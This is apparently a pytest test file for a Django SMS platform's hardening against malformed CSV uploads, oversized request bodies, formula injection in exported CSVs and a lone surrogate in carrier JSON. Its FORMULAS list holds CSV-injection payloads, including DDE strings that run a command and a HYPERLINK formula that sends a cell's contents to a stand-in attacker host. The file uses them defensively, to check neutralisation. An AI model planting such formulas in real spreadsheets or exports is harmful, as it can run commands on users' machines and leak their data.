"""Item 16: malformed files and bodies, and formulas in exported CSV cells.

- The contact import takes any file without a 500: UTF-16 (with and without its
  byte-order mark) is read, an image or any binary file is refused at upload with a
  clear message, an empty file or blank lines too, a header alone imports nothing,
  ragged rows are read, a cell beyond the CSV reader's limit fails the import with the
  line's number, so does a quote left open over lines of contacts (the reader would take
  them as one cell), and a file with thousands of columns is refused.
- A body announced larger than the platform accepts (a gigabyte) is refused with 413
  before anything reads it.
- Every CSV the platform hands out (the Blacklist, an import's rejected rows) writes a
  cell that a spreadsheet would run as a formula with an apostrophe in front.
- Half a UTF-16 pair escaped in a carrier's JSON ("\\ud800") is a 400 kept for support,
  not a 500 the carrier retries forever.
"""

from __future__ import annotations

import csv
import io
import json
import random
import time
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from accounts.models import Account
from blacklist.models import BlacklistSource, GatewayKind, InboundMessage, RejectedInbound
from blacklist.services import blacklist_numbers, connection_create
from blacklist.signing import sign
from campaigns.models import Contact, ContactImport, ImportStatus
from smsplatform.csvexport import safe_cell
from tests.campaigns.test_import import post_committed, upload

pytestmark = pytest.mark.django_db

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def run(client: Client, content: bytes, name: str = "contacts.csv") -> ContactImport | Any:
    """Upload, map as guessed (the first column as the phone when nothing was guessed),
    run; the import, or the upload page's answer when the upload was refused."""
    answer = upload(client, content, name=name)
    if answer.status_code != 302:
        return answer
    contact_import = ContactImport.objects.latest("pk")
    form = client.get(reverse("import-mapping", args=[contact_import.pk])).context["form"]
    mapping = {field: value.initial or "" for field, value in form.fields.items()}
    if "phone_number" not in mapping.values():
        mapping["column_0"] = "phone_number"
    post_committed(client, reverse("import-mapping", args=[contact_import.pk]), mapping)
    contact_import.refresh_from_db()
    return contact_import


def refusal(answer: Any) -> str:
    assert answer.status_code == 200, answer.status_code
    return " ".join(answer.context["form"].errors["file"])


def test_utf16_files_are_read_with_or_without_their_byte_order_mark(
    client_a: Client, account_a: Account
) -> None:
    text = "Téléphone;Prénom\r\n06 12 34 56 78;Zoé\r\n0698765432;Noël\r\n"
    with_bom = run(client_a, text.encode("utf-16"))
    without_bom = run(
        client_a, ("Téléphone;Prénom\r\n06 11 11 11 11;Anaïs\r\n").encode("utf-16-le")
    )
    big_endian = run(client_a, ("tel;nom\r\n06 22 22 22 22;Ève\r\n").encode("utf-16-be"))

    assert (with_bom.encoding, with_bom.status, with_bom.created_count) == ("utf-16", "done", 2)
    assert (without_bom.status, without_bom.created_count) == ("done", 1)
    assert (big_endian.status, big_endian.created_count) == ("done", 1)
    names = set(Contact.objects.filter(account=account_a).values_list("first_name", flat=True))
    assert {"Zoé", "Noël", "Anaïs"} <= names


@pytest.mark.parametrize(
    "content",
    [
        b"\x89PNG\r\n\x1a\n" + random.Random(1).randbytes(4000),
        b"PK\x03\x04" + random.Random(2).randbytes(4000),  # .xlsx
        b"%PDF-1.7\n" + random.Random(3).randbytes(4000),
        b"0612345678;ok\n0698765432\x00;NUL in a text file\n",
        bytes(random.Random(4).choices(range(1, 32), k=500)),  # control characters
    ],
    ids=["png", "xlsx", "pdf", "nul", "controls"],
)
def test_binary_files_are_refused_at_upload_with_a_clear_message(
    client_a: Client, content: bytes
) -> None:
    answer = run(client_a, content)

    assert "This is not a CSV file" in refusal(answer)
    assert not ContactImport.objects.exists()


@pytest.mark.parametrize("content", [b"", b"\n\n\r\n   \n", b"\xef\xbb\xbf"])
def test_an_empty_file_is_refused(client_a: Client, content: bytes) -> None:
    answer = run(client_a, content)

    assert answer.status_code == 200
    assert not ContactImport.objects.exists()


def test_a_header_alone_imports_nothing(client_a: Client) -> None:
    contact_import = run(client_a, b"telephone;prenom;nom\r\n")

    assert (contact_import.status, contact_import.created_count) == (ImportStatus.DONE, 0)
    assert contact_import.rejected_count == 0


def test_ragged_rows_are_read_short_and_long(client_a: Client, account_a: Account) -> None:
    content = (
        b"telephone;prenom;ville\r\n"
        b"0612345678\r\n"
        b"0698765432;Ana;Lyon;extra;cells;here\r\n"
        b"0611111111;Bob\r\n"
        b";;;\r\n"
        b"not a number;Eve;Nice\r\n"
    )

    contact_import = run(client_a, content)

    assert contact_import.status == ImportStatus.DONE
    assert (contact_import.created_count, contact_import.rejected_count) == (3, 1)
    assert Contact.objects.get(account=account_a, first_name="Ana").fields["ville"] == "Lyon"


def test_a_cell_beyond_the_readers_limit_fails_the_import_with_its_line(client_a: Client) -> None:
    content = b"telephone;nom\r\n0612345678;Ana\r\n0698765432;" + b"x" * 200_000 + b"\r\n"

    contact_import = run(client_a, content)

    assert contact_import.status == ImportStatus.FAILED
    assert "Line 3 cannot be read as CSV" in contact_import.error
    assert not Contact.objects.exists()  # nothing imported from a file that cannot be read


def test_a_quote_left_open_over_contacts_fails_the_import_instead_of_swallowing_them(
    client_a: Client,
) -> None:
    content = b'telephone;nom\r\n0612345601;"Ana\r\n0612345602;Hugo\r\n0612345603;Amy\r\n'

    contact_import = run(client_a, content)

    assert contact_import.status == ImportStatus.FAILED
    assert "Line 2 cannot be read as CSV" in contact_import.error
    assert "closed only on line 4, or never" in contact_import.error
    assert not Contact.objects.exists()


def test_a_note_on_two_lines_in_quotes_is_read_as_one_cell(client_a: Client) -> None:
    content = b'telephone;note\r\n0612345601;"sonner deux fois;\r\nporte B"\r\n'

    contact_import = run(client_a, content)

    assert contact_import.status == ImportStatus.DONE, contact_import.error
    assert Contact.objects.get().phone_number == "+33612345601"


def test_a_file_with_thousands_of_columns_is_refused(client_a: Client) -> None:
    content = b";".join([b"col"] * 5000) + b"\r\n" + b";".join([b"0612345678"] * 5000)

    assert "5000 columns: at most 200" in refusal(run(client_a, content))
    assert not ContactImport.objects.exists()


def test_a_nul_beyond_the_sniffed_sample_is_no_crash(client_a: Client) -> None:
    filler = b"".join(b"06%08d;name\r\n" % n for n in range(10_000))  # 150 KB of rows
    content = b"telephone;nom\r\n" + filler + b"0612345678;Z\x00e\r\n"

    contact_import = run(client_a, content)

    assert contact_import.status == ImportStatus.DONE
    assert Contact.objects.filter(last_name="Z\ufffde").exists()


# -- bodies announced too large ------------------------------------------------------------


class Untouchable(io.RawIOBase):
    """A request body that fails the test if anything reads it."""

    def __init__(self) -> None:
        self.reads = 0

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: Any) -> int:
        self.reads += 1
        raise AssertionError("the body was read")


@pytest.mark.parametrize(
    ("path", "content_type"),
    [
        ("/contacts/import/", "multipart/form-data; boundary=xyz"),
        ("/blacklist/add/", "multipart/form-data; boundary=xyz"),
        ("/api/v1/contacts/import", "application/json"),
        ("/api/v1/messages", "application/json"),
        ("/login/", "application/x-www-form-urlencoded"),
    ],
)
def test_a_gigabyte_announced_is_refused_without_reading_it(
    client_a: Client, path: str, content_type: str
) -> None:
    body = Untouchable()
    client_a.raise_request_exception = True

    answer = client_a.generic(
        "POST",
        path,
        b"x",
        content_type=content_type,
        CONTENT_LENGTH=str(2**30),
        **{"wsgi.input": body},
        HTTP_ACCEPT_LANGUAGE="fr",
    )

    assert answer.status_code == 413
    assert body.reads == 0
    assert "trop volumineuse" in answer.content.decode()


def test_an_ordinary_upload_still_goes_through(client_a: Client) -> None:
    assert upload(client_a, b"telephone\r\n0612345678\r\n").status_code == 302


# -- formulas in every CSV export ------------------------------------------------------------


def cells_of(answer: Any) -> list[list[str]]:
    text = b"".join(answer.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell[1:].isdigit(), cell


def test_formulas_in_the_rejected_rows_of_an_import_are_neutralised(client_a: Client) -> None:
    content = ("telephone;nom\r\n" + "".join(f"{formula};x\r\n" for formula in FORMULAS)).encode()
    contact_import = run(client_a, content)

    rows = cells_of(client_a.get(reverse("import-rejections", args=[contact_import.pk])))

    assert_no_formula(rows)
    values = [row[1] for row in rows[1:]]
    assert "'=cmd|' /C calc'!A0" in values
    assert "'-2+3+cmd|' /C calc'!A0" in values
    assert len(values) == contact_import.rejected_count


def test_formulas_in_blacklist_notes_are_neutralised_in_both_exports(
    client_a: Client, account_a: Account
) -> None:
    from tests.api.conftest import client_with_key, key_for

    for index, formula in enumerate(FORMULAS):
        blacklist_numbers(
            account=account_a,
            numbers=[f"+336123456{index:02d}"],
            source=BlacklistSource.MANUAL,
            note=formula,
        )

    page = cells_of(client_a.get(reverse("blacklist-export")))
    api = client_with_key(key_for(account_a)).get("/api/v1/blacklist/export")
    from_api = cells_of(api)

    assert page == from_api
    assert_no_formula(page)
    assert {row[3] for row in page[1:]} == {"'" + formula for formula in FORMULAS}
    assert all(row[0].startswith("+336") for row in page[1:])  # numbers stay numbers


def test_a_file_name_with_quotes_and_accents_stays_one_header(client_a: Client) -> None:
    upload(client_a, b"telephone\r\nnope\r\n")
    contact_import = ContactImport.objects.latest("pk")
    contact_import.original_name = 'liste "VIP"; été.csv'
    contact_import.save(update_fields=["original_name"])

    disposition = client_a.get(reverse("import-rejections", args=[contact_import.pk]))[
        "Content-Disposition"
    ]

    assert disposition == (
        "attachment; filename*=utf-8''liste%20%22VIP%22%3B%20%C3%A9t%C3%A9-rejected.csv"
    )


@pytest.mark.parametrize("value", ["=1", "+33612345678", "-", "@", "\t", "", "Dupont", 7, None])
def test_safe_cell_quotes_exactly_what_a_spreadsheet_would_run(value: Any) -> None:
    runs = isinstance(value, str) and value[:1] in {"=", "+", "-", "@", "\t"}
    expected = "" if value is None else str(value)
    if runs and value != "+33612345678":
        expected = "'" + expected

    assert safe_cell(value) == expected


# -- a carrier's JSON with half a surrogate pair -----------------------------------------


def test_a_lone_surrogate_in_a_carriers_json_is_refused_and_kept(db: Any) -> None:
    _connection, secret = connection_create(name="sinch", kind=GatewayKind.JSON)
    body = json.dumps({"id": "s-1", "from": "+33612345678", "to": "36034", "text": "STOP \ud800"})
    timestamp = str(int(time.time()))

    answer = Client(raise_request_exception=False).post(
        "/webhooks/inbound/sinch/",
        data=body.encode(),
        content_type="application/json",
        headers={
            "X-Signature-Timestamp": timestamp,
            "X-Signature": sign(secret, timestamp, body.encode()),
        },
    )

    assert answer.status_code == 400
    assert "lone surrogate" in RejectedInbound.objects.get().reason
    assert not InboundMessage.objects.exists()
